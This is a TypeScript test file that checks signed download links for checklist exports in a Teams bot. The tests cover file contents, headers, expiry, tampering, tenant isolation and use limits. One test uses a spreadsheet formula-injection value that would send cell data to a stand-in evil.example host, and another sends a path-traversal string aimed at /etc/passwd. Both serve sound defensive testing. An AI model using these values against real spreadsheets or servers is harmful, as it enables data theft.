// Downloading a checklist export from its signed link, over real HTTP, from a checklist started and
// worked on through Teams-shaped invokes; and a second download kind through the same endpoint.
import { createHmac } from 'node:crypto';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { DownloadLinks } from '../../src/exports/service.js';
import { createExportToken } from '../../src/exports/signed-links.js';
import { startFakeConnector, type FakeConnector } from '../support/fake-connector.js';
import { startTestCadans, type TestCadans } from '../support/harness.js';
import { createTeamsWorld, postActivity, type TeamsChannel, type TeamsUser, type TeamsWorld } from '../support/teams-activities.js';

let connector: FakeConnector;
let cadans: TestCadans;
let world: TeamsWorld;
let sanne: TeamsUser;
let joost: TeamsUser;
let mallory: TeamsUser;
let channel: TeamsChannel;
let checklistId: number;
let stepTitles: string[];

const TITLE = 'Inspectie Café De Regenboog; maart 2027';
const INJECTION = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")';
const LONG_NOTE = Array.from({ length: 25 }, (_, i) => `Regel ${i + 1}: "bewijs" staat in de map; zie ook de analyse.`).join('\n');
const EVIDENCE = 'https://stichting.sharepoint.com/sites/kwaliteit/analyse.docx';
const OTHER_TENANT = '12121212-3434-4545-8656-787878787878';

async function invoke(user: TeamsUser, verb: string, data: Record<string, unknown>) {
  const res = await postActivity(cadans.url, world.actionExecute(user, channel, verb, data));
  expect(res.status).toBe(200);
}

const secret = () => cadans.config.exports.signingSecret;
const inAMinute = () => new Date(Date.now() + 60_000);
const checklistLink = (format: 'xlsx' | 'csv', id = checklistId) => cadans.downloads.linkFor(world.tenantId, 'checklist', { checklistId: id }, format);
const checklistToken = (over: { tenantId?: string; checklistId?: number; format?: string; expiresAt?: Date }, signWith = secret()) =>
  createExportToken(signWith, { tenantId: over.tenantId ?? world.tenantId, kind: 'checklist', params: { checklistId: over.checklistId ?? checklistId }, format: over.format ?? 'xlsx', expiresAt: over.expiresAt ?? inAMinute() });
/** A link as Cadans made them before download kinds (tenant, checklist id, format), signed the same way. */
function v1Token(payload: Record<string, unknown>): string {
  const p = Buffer.from(JSON.stringify({ v: 1, ...payload, n: 'AAAAAAAAAAA' })).toString('base64url');
  return `${p}.${createHmac('sha256', secret()).update('cadans.export.v1.').update(p).digest('base64url')}`;
}

// A second kind, registered the way a feature does: its own params, formats and files.
const noteParams = z.object({ word: z.string().min(1).max(40) });
let notes: DownloadLinks<z.infer<typeof noteParams>, 'txt' | 'json'>;

async function get(pathOrUrl: string) {
  const res = await fetch(pathOrUrl.startsWith('http') ? pathOrUrl : `${cadans.url}${pathOrUrl}`);
  return { status: res.status, headers: res.headers, body: Buffer.from(await res.arrayBuffer()) };
}

function rowsOf(ws: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = [];
  ws.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => (v && typeof v === 'object' && 'hyperlink' in v ? (v as unknown as { text: string }).text : v))));
  return rows;
}

beforeAll(async () => {
  connector = await startFakeConnector();
  cadans = await startTestCadans();
  world = createTeamsWorld({ serviceUrl: connector.serviceUrl });
  sanne = world.user({ name: 'Sanne de Vries' });
  joost = world.user({ name: 'Joost Bakker' });
  mallory = world.user({ name: INJECTION });
  const team = world.team({ name: 'Team Kwaliteit', channels: ['Kwaliteit'], members: [sanne, joost, mallory] });
  channel = team.channel('Kwaliteit');
  connector.addTeam(team.id, team.connectorInfo);
  connector.setMembers(team.id, team.members.map((m) => m.rosterEntry));
  await postActivity(cadans.url, world.personalMessage(sanne, 'hulp')); // first person: beheerder

  await invoke(sanne, 'checklist.start', { v: 1, template: 'inspection', title: TITLE, school: 'none', targetDate: '2027-03-09' });
  checklistId = Number((await cadans.db.query<{ id: string }>('select id from checklists where title = $1', [TITLE])).rows[0]!.id);
  stepTitles = (await cadans.db.query<{ title_nl: string }>('select title_nl from checklist_steps where checklist_id = $1 order by position', [checklistId])).rows.map((r) => r.title_nl);
  await invoke(sanne, 'checklist.setStatus', { v: 1, checklistId, position: 1, status: 'klaar' });
  await invoke(joost, 'checklist.take', { v: 1, checklistId, position: 2 });
  await invoke(sanne, 'checklist.saveStep', { v: 1, checklistId, position: 3, note: LONG_NOTE, evidenceUrl: EVIDENCE });
  await invoke(mallory, 'checklist.take', { v: 1, checklistId, position: 4 });

  notes = cadans.downloads.register('test-notes', {
    params: noteParams,
    formats: ['txt', 'json'],
    async build(tenantId, { word }, format, { now }) {
      if (word === 'gone') return null;
      return format === 'txt'
        ? { filename: `notitie ${word}.txt`, contentType: 'text/plain; charset=utf-8', body: `${word} for ${tenantId}` }
        : { filename: `notitie ${word}.json`, contentType: 'application/json', body: Buffer.from(JSON.stringify({ word, tenantId, at: now.toISOString() })) };
    },
  });
});
afterAll(async () => {
  await cadans?.close();
  await connector?.close();
});

describe('downloading a checklist export', () => {
  it('gives an absolute link on Cadans itself that works straight away', () => {
    const link = checklistLink('xlsx');
    expect(link.startsWith(`${cadans.url}/exports/`)).toBe(true);
  });

  it('downloads an Excel file named after the checklist, not cached, with the right headers', async () => {
    const res = await get(checklistLink('xlsx'));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="checklist-${checklistId}-inspectie-cafe-de-regenboog-maart-2027.xlsx"; filename*=UTF-8''checklist-${checklistId}%20Inspectie%20Caf%C3%A9%20De%20Regenboog%3B%20maart%202027.xlsx`,
    );
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    expect(Number(res.headers.get('content-length'))).toBe(res.body.length);
  });

  it('has every step, the full note and the evidence link in the Excel file', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await get(checklistLink('xlsx'))).body as unknown as ArrayBuffer);
    const rows = rowsOf(wb.getWorksheet('Stappen')!);
    expect(rows[0]).toEqual(['Checklist', TITLE]);
    const steps = rows.filter((r) => typeof r[0] === 'number');
    expect(steps.map((r) => r[1])).toEqual(stepTitles);
    expect(steps).toHaveLength(11);
    expect(steps[0]![2]).toBe('Klaar');
    expect(steps[1]!.slice(2, 4)).toEqual(['Bezig', 'Joost Bakker']);
    expect(steps[2]![5]).toBe(LONG_NOTE);
    expect(steps[2]![6]).toBe(EVIDENCE);
    expect(steps[2]![7]).toBe('Sanne de Vries');
    expect(steps[3]![3]).toBe(`'${INJECTION}`); // a name that is a formula stays text
  });

  it('has the change log with who, which step, and old and new values in the Excel file', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await get(checklistLink('xlsx'))).body as unknown as ArrayBuffer);
    const log = rowsOf(wb.getWorksheet('Logboek')!).filter((r) => r[0] instanceof Date);
    const strip = (r: unknown[]) => r.slice(1);
    expect(log.map(strip)).toContainEqual(['Sanne de Vries', `1. ${stepTitles[0]}`, 'Status', 'Open', 'Klaar']);
    expect(log.map(strip)).toContainEqual(['Joost Bakker', `2. ${stepTitles[1]}`, 'Eigenaar', undefined, 'Joost Bakker']);
    expect(log.map(strip)).toContainEqual(['Joost Bakker', `2. ${stepTitles[1]}`, 'Status', 'Open', 'Bezig']);
    expect(log.map(strip)).toContainEqual(['Sanne de Vries', `3. ${stepTitles[2]}`, 'Notitie', undefined, LONG_NOTE]);
    expect(log.map(strip)).toContainEqual(['Sanne de Vries', `3. ${stepTitles[2]}`, 'Bewijslink', undefined, EVIDENCE]);
  });

  it('downloads a CSV with a byte order mark, semicolons and the note kept whole in one cell', async () => {
    const res = await get(checklistLink('csv'));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="checklist-${checklistId}-inspectie-cafe-de-regenboog-maart-2027\\.csv"`));
    expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = res.body.toString('utf8');
    expect(text).toContain(`Checklist;"${TITLE}"`);
    expect(text).toContain(`"${LONG_NOTE.replace(/"/g, '""')}"`);
    expect(text).toContain(`"'${INJECTION.replace(/"/g, '""')}"`);
    expect(text).not.toMatch(/[;\n]=HYPERLINK/);
  });

  it('serves one link five times, then says in Dutch and English that it is used up (429), while a new link works', async () => {
    const link = checklistLink('csv');
    const statuses: number[] = [];
    for (let i = 0; i < 5; i++) statuses.push((await get(link)).status);
    expect(statuses).toEqual([200, 200, 200, 200, 200]);
    const sixth = await get(link);
    expect(sixth.status).toBe(429);
    expect(sixth.body.toString('utf8')).toMatch(/al 5 keer gebruikt[\s\S]*used 5 times/);
    expect(sixth.headers.get('cache-control')).toBe('no-store');
    expect((await get(checklistLink('csv'))).status).toBe(200);
  });

  it('tells the visitor in Dutch and English that a link has expired (410)', async () => {
    const token = checklistToken({ expiresAt: new Date(Date.now() - 1_000) });
    const res = await get(`/exports/${token}`);
    expect(res.status).toBe(410);
    expect(res.body.toString('utf8')).toMatch(/verlopen[\s\S]*expired/);
    expect(res.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(res.headers.get('cache-control')).toBe('no-store');
  });

  it('refuses a link whose checklist id was changed (403)', async () => {
    const token = checklistLink('xlsx').split('/exports/')[1]!;
    const [payload, signature] = token.split('.') as [string, string];
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8'));
    const changed = Buffer.from(JSON.stringify({ ...claims, p: { checklistId: claims.p.checklistId + 1 } })).toString('base64url');
    const res = await get(`/exports/${changed}.${signature}`);
    expect(res.status).toBe(403);
    expect(res.body.toString('utf8')).toMatch(/veranderd[\s\S]*altered/);
  });

  it("refuses a link forged for another school board's tenant (403)", async () => {
    const forged = checklistToken({ tenantId: OTHER_TENANT, format: 'csv' }, 'someone-elses-guess-at-a-long-secret-0000');
    expect((await get(`/exports/${forged}`)).status).toBe(403);
  });

  it("never gives a checklist to a link of another tenant, even a correctly signed one (404)", async () => {
    const token = checklistToken({ tenantId: OTHER_TENANT });
    const res = await get(`/exports/${token}`);
    expect(res.status).toBe(404);
    expect(res.body.toString('utf8')).toMatch(/bestaat niet/);
  });

  it('says a checklist that no longer exists is gone (404)', async () => {
    const token = checklistToken({ checklistId: 987_654, format: 'csv' });
    expect((await get(`/exports/${token}`)).status).toBe(404);
  });

  it('answers 400 to garbage and keeps serving', async () => {
    for (const path of ['/exports/garbage', '/exports/a.b', `/exports/${'x'.repeat(3_000)}`, '/exports/%E0%A4%A', '/exports/..%2F..%2Fetc%2Fpasswd', '/exports/%00']) {
      const res = await get(path);
      expect(res.status, path).toBeGreaterThanOrEqual(400);
      expect(res.status, path).toBeLessThan(500);
    }
    expect((await get('/exports/garbage')).status).toBe(400);
    expect((await get('/healthz')).status).toBe(200);
    expect((await get(checklistLink('csv'))).status).toBe(200);
  });
});

describe('a link made before download kinds (tenant, checklist id, format)', () => {
  it('still downloads the checklist for the rest of its fifteen minutes', async () => {
    const res = await get(`/exports/${v1Token({ tid: world.tenantId, cid: checklistId, fmt: 'csv', exp: Math.floor(Date.now() / 1000) + 600 })}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="checklist-${checklistId}-inspectie-cafe-de-regenboog-maart-2027\\.csv"`));
    expect(res.body.toString('utf8')).toContain(`Checklist;"${TITLE}"`);
  });

  it('still says it has expired once its fifteen minutes are over (410)', async () => {
    const res = await get(`/exports/${v1Token({ tid: world.tenantId, cid: checklistId, fmt: 'xlsx', exp: Math.floor(Date.now() / 1000) - 1 })}`);
    expect(res.status).toBe(410);
  });

  it("never gives a checklist to an old link of another tenant (404)", async () => {
    const res = await get(`/exports/${v1Token({ tid: OTHER_TENANT, cid: checklistId, fmt: 'xlsx', exp: Math.floor(Date.now() / 1000) + 600 })}`);
    expect(res.status).toBe(404);
    expect(res.body.toString('utf8')).toMatch(/checklist bestaat niet[\s\S]*checklist does not exist/);
  });
});

describe('another kind of download through the same endpoint', () => {
  it('gets its own file, named and typed as its kind says, with the same headers', async () => {
    const res = await get(notes.linkFor(world.tenantId, { word: 'café' }, 'txt'));
    expect(res.status).toBe(200);
    expect(res.body.toString('utf8')).toBe(`café for ${world.tenantId}`);
    expect(res.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="notitie-cafe.txt"; filename*=UTF-8''notitie%20caf%C3%A9.txt`);
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(Number(res.headers.get('content-length'))).toBe(res.body.length);
  });

  it('gets each of its formats from one registration', async () => {
    const res = await get(notes.linkFor(world.tenantId, { word: 'rapport' }, 'json'));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/json');
    expect(JSON.parse(res.body.toString('utf8'))).toMatchObject({ word: 'rapport', tenantId: world.tenantId });
  });

  it('says in Dutch and English that the file is gone when the kind finds nothing (404)', async () => {
    const res = await get(notes.linkFor(world.tenantId, { word: 'gone' }, 'txt'));
    expect(res.status).toBe(404);
    expect(res.body.toString('utf8')).toMatch(/bestand bestaat niet[\s\S]*file does not exist/);
  });

  it('counts its links like any other: five downloads, then 429', async () => {
    const link = notes.linkFor(world.tenantId, { word: 'vijf' }, 'txt');
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) statuses.push((await get(link)).status);
    expect(statuses).toEqual([200, 200, 200, 200, 200, 429]);
  });

  it('refuses a correctly signed link naming a kind this Cadans does not have (400)', async () => {
    const token = createExportToken(secret(), { tenantId: world.tenantId, kind: 'meeting-minutes', params: { meetingId: 1 }, format: 'xlsx', expiresAt: inAMinute() });
    const res = await get(`/exports/${token}`);
    expect(res.status).toBe(400);
    expect(res.body.toString('utf8')).toMatch(/ongeldig[\s\S]*not valid/);
    expect(res.headers.get('cache-control')).toBe('no-store');
  });

  it("refuses a correctly signed link whose params its kind's schema does not accept (400)", async () => {
    const token = createExportToken(secret(), { tenantId: world.tenantId, kind: 'checklist', params: { checklistId: 'all' }, format: 'xlsx', expiresAt: inAMinute() });
    expect((await get(`/exports/${token}`)).status).toBe(400);
  });

  it('refuses a correctly signed link in a format its kind does not make (400)', async () => {
    expect((await get(`/exports/${checklistToken({ format: 'pdf' })}`)).status).toBe(400);
  });
});
